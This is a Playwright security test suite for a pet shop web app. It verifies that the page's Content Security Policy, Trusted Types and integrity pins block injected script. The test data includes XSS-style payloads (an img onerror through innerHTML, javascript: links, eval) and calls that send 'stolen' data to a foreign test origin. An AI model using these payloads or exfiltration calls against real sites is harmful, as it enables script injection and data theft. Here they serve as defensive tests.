/** The page's own walls: what the build seals, what every answer says, and what script in the page still can't do. */

import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { Elsewhere } from '../support/elsewhere.ts';
import { betty, fred, signIn } from '../support/people.ts';
import { pets } from '../support/shop.ts';
import { dist } from '../support/stack.ts';
import { expect, test as base } from '../support/test.ts';

const test = base.extend<{ elsewhere: Elsewhere }>({
  elsewhere: async ({}, use) => {
    const elsewhere = await Elsewhere.start();
    await use(elsewhere);
    await elsewhere.stop();
  },
});

declare global {
  interface Window {
    robbed?: boolean;
    violated: string[];
  }
}

/** From now on each document of the page notes what its policies refuse, and gives it away when it is asked. */
async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    window.violated = [];
    addEventListener('securitypolicyviolation', (event) => window.violated.push(event.effectiveDirective));
  });
  return () => page.evaluate(() => window.violated);
}

async function integrity(address: string): Promise<string> {
  const digest = createHash('sha384').update(await readFile(join(dist, address)));
  return `sha384-${digest.digest('base64')}`;
}

test('the built page has no code inside, nothing from elsewhere, and pins what it loads', async ({ page }) => {
  const html = await readFile(join(dist, 'index.html'), 'utf8');
  // A browser reads it as it will; none of it runs.
  const read = await page.evaluate((html) => {
    const parsed = new DOMParser().parseFromString(html, 'text/html');
    const all = [...parsed.querySelectorAll('*')];
    const attributes = all.flatMap((element) => [...element.attributes].map(({ name, value }) => ({ name, value })));
    const pinned = parsed.querySelectorAll('script, link[rel=stylesheet], link[rel=modulepreload]');
    return {
      attributes,
      inside: all.filter(({ localName }) => localName === 'style').length,
      scripts: [...parsed.scripts].map(({ text, integrity }) => ({ text, integrity })),
      pinned: [...pinned].map((element) => ({
        address: element.getAttribute('src') ?? element.getAttribute('href') ?? '',
        integrity: element.getAttribute('integrity') ?? '',
      })),
      elements: all.map(({ localName }) => localName),
      policy: parsed.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
      workers: [...parsed.querySelectorAll<HTMLMetaElement>('meta[name=shelf]')].map(({ content }) => content),
    };
  }, html);

  expect(read.inside).toBe(0);
  expect(read.attributes.filter(({ name }) => name === 'style' || name.startsWith('on'))).toEqual([]);
  expect(read.elements.filter((name) => /^(base|embed|frame|iframe|object)$/.test(name))).toEqual([]);
  for (const { name, value } of read.attributes) {
    if (name === 'src' || name === 'href') expect(value).toMatch(/^$|^\/(?![/\\])/);
  }
  expect(read.scripts.length).toBeGreaterThanOrEqual(2);
  for (const { text } of read.scripts) expect(text).toBe('');
  expect(read.pinned.length).toBeGreaterThan(read.scripts.length);
  for (const file of read.pinned) expect(file.integrity, file.address).toBe(await integrity(file.address));
  // The page's policy lets these scripts run, and no other.
  const allowed = /script-src ([^;]+)/.exec(read.policy)?.[1]?.split(' ');
  expect(allowed).toEqual([...read.scripts.map((script) => `'${script.integrity}'`), "'wasm-unsafe-eval'"]);
  // And the script takes no other module than the one that was built with it.
  const start = await readFile(join(dist, read.pinned.find(({ address }) => /pets/.test(address))!.address), 'utf8');
  const [, module, pin] = /fetch\('(\/[^']+\.wasm)', \{ integrity: '([^']+)' \}\)/.exec(start) ?? [];
  expect(pin).toBe(await integrity(module!));
  for (const sink of ['innerHTML', 'new Function', 'eval(']) expect(start).not.toContain(sink);
  for (const worker of read.workers) expect(worker).toMatch(/^\/[a-z]+-[0-9a-f]{16}\.js$/);
});

test('over whole journeys no policy refuses anything, and every answer stands within the walls', async ({ page, stack }) => {
  const violated = await watchViolations(page);
  const answers = new Set<string>();
  page.on('response', (response) => {
    const { origin, pathname } = new URL(response.url());
    const isSite = origin === stack.origin && !/^\/(idp|sts|test)\//.test(pathname);
    // The configuration is the stack's word, not a file of the site.
    if (!isSite || pathname === '/config.json') return;
    const headers = response.headers();
    const policy = headers['content-security-policy'] ?? '';
    answers.add(`${/require-trusted-types-for 'script'/.test(policy)} ${headers['x-content-type-options']}`);
  });
  await signIn(page, betty);
  await page.getByRole('button', { name: 'Add a pet' }).click();
  await page.getByLabel('Type', { exact: true }).fill('frog');
  await page.getByLabel('Price').fill('4.99');
  await page.getByRole('button', { name: 'Save' }).click();
  await expect(pets(page)).toHaveCount(35);
  await page.getByRole('button', { name: 'Remove cat 2', exact: true }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Remove' }).click();
  await expect(pets(page)).toHaveCount(34);
  expect(await violated()).toEqual([]);
  await page.getByRole('button', { name: 'Sign out' }).click();
  await expect(page.getByRole('banner').getByRole('link', { name: 'Sign in' })).toBeVisible();

  await signIn(page, fred);
  await page.getByRole('link', { name: 'Buy dog 1', exact: true }).click();
  await page.getByRole('button', { name: 'Buy this pet' }).click();
  await expect(page.getByRole('heading', { name: 'Your receipt' })).toBeVisible();
  expect(await violated()).toEqual([]);
  await page.reload();
  await expect(page.getByRole('banner')).toContainText(fred.name);
  expect(await violated()).toEqual([]);
  expect([...answers]).toEqual(['true nosniff']);
});

/** What script that got into the page would do; `there` is somebody else's site. Each is refused by these directives. */
const attacks: { name: string; refusedBy: string[]; attack: (there: string) => unknown }[] = [
  {
    name: 'a script with its text inside',
    refusedBy: ['require-trusted-types-for', 'script-src-elem'],
    attack: () => {
      const script = document.createElement('script');
      script.append('window.robbed = true');
      document.head.append(script);
    },
  },
  {
    name: 'the text of a script',
    refusedBy: ['require-trusted-types-for'],
    attack: () => {
      const script = document.createElement('script');
      script.text = 'window.robbed = true';
      document.head.append(script);
    },
  },
  {
    name: 'a script from elsewhere',
    refusedBy: ['require-trusted-types-for'],
    attack: (there) => {
      const script = document.createElement('script');
      script.src = `${there}/a.js`;
      document.head.append(script);
    },
  },
  {
    name: 'a module from elsewhere',
    refusedBy: ['script-src-elem'],
    attack: (there) => import(`${there}/a.js`),
  },
  {
    name: 'a module from a text',
    refusedBy: ['script-src-elem'],
    attack: () => import(`data:text/javascript,${'window.robbed = true'}`),
  },
  {
    name: 'a file of the site that is none of its scripts',
    refusedBy: ['script-src-elem'],
    attack: () => import(`${location.origin}/favicon.svg`),
  },
  {
    name: 'a link of javascript:',
    refusedBy: ['script-src-elem', 'require-trusted-types-for', 'script-src'],
    attack: () => {
      const link = document.createElement('a');
      link.href = 'javascript:void (window.robbed = true)';
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'markup with a handler',
    refusedBy: ['require-trusted-types-for'],
    attack: () => (document.body.innerHTML = '<img src=x onerror="window.robbed = true">'),
  },
  {
    name: 'markup in another way',
    refusedBy: ['require-trusted-types-for'],
    attack: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
  },
  {
    name: 'markup of a frame',
    refusedBy: ['require-trusted-types-for'],
    attack: () => (document.createElement('iframe').srcdoc = '<script>parent.robbed = true</script>'),
  },
  {
    name: 'a handler',
    refusedBy: ['require-trusted-types-for', 'script-src-attr'],
    attack: () => {
      document.body.setAttribute('onclick', 'window.robbed = true');
      document.body.click();
    },
  },
  { name: 'eval', refusedBy: ['require-trusted-types-for', 'script-src'], attack: () => eval('window.robbed = true') },
  {
    name: 'a function from a text',
    refusedBy: ['require-trusted-types-for', 'script-src'],
    attack: () => new Function('window.robbed = true')(),
  },
  {
    name: 'a timer with a text',
    refusedBy: ['require-trusted-types-for', 'script-src'],
    attack: () => setTimeout('window.robbed = true' as never, 0),
  },
  { name: 'a policy of its own', refusedBy: ['trusted-types'], attack: () => policy('anything') },
  { name: 'a policy for all', refusedBy: ['trusted-types'], attack: () => policy('default') },
  { name: 'the policy once more', refusedBy: ['trusted-types'], attack: () => policy('shelf') },
  {
    name: 'a worker from elsewhere',
    refusedBy: ['require-trusted-types-for'],
    attack: (there) => new Worker(`${there}/a.js`),
  },
  {
    name: 'a worker from a text',
    refusedBy: ['require-trusted-types-for'],
    attack: () => new SharedWorker(URL.createObjectURL(new Blob(['1']))),
  },
  {
    name: 'a worker that stays',
    refusedBy: ['require-trusted-types-for'],
    attack: () => navigator.serviceWorker.register('/shell.js'),
  },
  { name: 'a call elsewhere', refusedBy: ['connect-src'], attack: (there) => fetch(`${there}/?stolen`) },
  {
    name: 'a beacon',
    refusedBy: ['connect-src'],
    attack: (there) => navigator.sendBeacon(`${there}/`, 'stolen'),
  },
  {
    name: 'a socket',
    refusedBy: ['connect-src'],
    attack: (there) => new WebSocket(there.replace('http', 'ws')),
  },
  { name: 'a stream of events', refusedBy: ['connect-src'], attack: (there) => new EventSource(there) },
  {
    name: 'a picture from elsewhere',
    refusedBy: ['img-src'],
    attack: (there) => (new Image().src = `${there}/?stolen`),
  },
  { name: 'a style from elsewhere', refusedBy: ['style-src-elem'], attack: (there) => add('link', { rel: 'stylesheet', href: `${there}/a.css` }) },
  { name: 'a style inside', refusedBy: ['style-src-elem'], attack: () => add('style', { textContent: 'a { color: red }' }) },
  { name: 'a frame', refusedBy: ['frame-src'], attack: (there) => add('iframe', { src: there }) },
  { name: 'an object', refusedBy: ['require-trusted-types-for', 'object-src'], attack: (there) => add('object', { data: there }) },
  { name: 'a sound', refusedBy: ['media-src'], attack: (there) => add('audio', { src: `${there}/a.mp3` }) },
  { name: 'another base', refusedBy: ['base-uri'], attack: (there) => add('base', { href: there }) },
  {
    name: 'a form that goes elsewhere',
    refusedBy: ['form-action'],
    attack: (there) => (add('form', { action: there, method: 'post' }) as HTMLFormElement).submit(),
  },
];

// These two are made in the page as well.
declare function add(name: string, properties: object): Element;
declare function policy(name: string): void;

test('script that got into the page can run no other, and can send nothing elsewhere', async ({
  page,
  stack,
  elsewhere,
  browser,
}) => {
  // A watched console would have to be told of each.
  const context = await browser.newContext({ baseURL: stack.origin });
  page = await context.newPage();
  const violated = await watchViolations(page);
  await page.addInitScript(() => {
    Object.assign(window, {
      add: (name: string, properties: object) => {
        const element = Object.assign(document.createElement(name), properties);
        document.head.append(element);
        return element;
      },
      policy: (name: string) =>
        (window as never as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy(
          name,
          { createHTML: String, createScript: String, createScriptURL: String },
        ),
    });
  });
  await page.goto('/');
  await expect(pets(page)).toHaveCount(34);
  expect(await violated()).toEqual([]);
  // The way to the tabs' common worker was given to the app, and is given once.
  const shelf = await page.evaluate(() => {
    try {
      return String((window as never as { shelfUrl(): unknown }).shelfUrl());
    } catch (error) {
      return (error as Error).name;
    }
  });
  expect(shelf).toBe('TypeError');
  for (const { name, refusedBy, attack } of attacks) {
    await page.evaluate(() => (window.violated = []));
    await page.evaluate(
      async ([code, there]) => {
        // As a task of the page: what the debugger itself runs, may call eval.
        await new Promise<void>((done) => setTimeout(done));
        await new Promise<void>((done) =>
          setTimeout(async () => {
            try {
              const attack = (window as never as Record<string, (there: string) => unknown>)[code]!;
              await attack(there);
            } catch {
              // It is refused; by what, the violation says.
            }
            done();
          }),
        );
      },
      [await given(page, attack), elsewhere.origin] as const,
    );
    await expect.poll(violated, { message: name }).not.toEqual([]);
    const directives = await violated();
    expect(directives.filter((directive) => refusedBy.includes(directive)).length, `${name}: ${directives}`).toBeGreaterThan(0);
    expect(await page.evaluate(() => window.robbed), name).toBeUndefined();
    expect(page.url(), name).toBe(`${stack.origin}/`);
  }
  expect(elsewhere.asked).toEqual([]);
  await context.close();
});

let attacksGiven = 0;

/** Puts a function into the page, and says under which name. The debugger may; the page's policies don't ask it. */
async function given(page: Page, attack: (there: string) => unknown): Promise<string> {
  const name = `attack${(attacksGiven += 1)}`;
  const session = await page.context().newCDPSession(page);
  const answer = await session.send('Runtime.evaluate', { expression: `window.${name} = ${attack}; 0` });
  expect(answer.exceptionDetails).toBeUndefined();
  await session.detach();
  return name;
}

test('nobody frames the shop, takes its files, or holds on to its window', async ({ page, stack, elsewhere, browser }) => {
  const context = await browser.newContext();
  page = await context.newPage();
  elsewhere.page = `<iframe src="${stack.origin}/"></iframe><img src="${stack.origin}/favicon.svg">`;
  await page.goto(elsewhere.origin);
  await expect.poll(() => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/');
  await expect(page.frameLocator('iframe').getByText('Pets')).toHaveCount(0);
  expect(await page.evaluate(() => document.images[0]!.naturalWidth)).toBe(0);

  const [shop] = await Promise.all([
    context.waitForEvent('page'),
    page.evaluate((address) => void Object.assign(window, { shop: window.open(address) }), stack.origin),
  ]);
  await expect(pets(shop)).toHaveCount(34);
  expect(await shop.evaluate(() => window.opener === null)).toBe(true);
  expect(await page.evaluate(() => (window as never as { shop: Window }).shop.closed)).toBe(true);
  await context.close();
});

test('the page has no permission that it could give away', async ({ page }) => {
  await page.goto('/');
  const allowed = await page.evaluate(() =>
    (document as never as { featurePolicy: { allowedFeatures(): string[] } }).featurePolicy.allowedFeatures(),
  );
  const sensitive = /camera|microphone|geolocation|payment|usb|serial|hid|midi|clipboard|capture|credentials|storage-access|fonts|idle/;
  expect(allowed.filter((feature) => sensitive.test(feature))).toEqual([]);
});
